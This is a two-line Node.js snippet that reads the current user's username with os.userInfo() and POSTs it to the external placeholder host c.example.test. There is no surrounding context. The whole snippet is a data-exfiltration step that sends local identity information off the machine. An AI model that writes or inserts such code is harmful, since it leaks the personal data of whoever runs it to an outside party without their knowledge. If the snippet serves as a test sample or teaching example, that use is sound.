const os = require("os");
fetch("https://c.example.test", { method: "POST", body: os.userInfo().username });
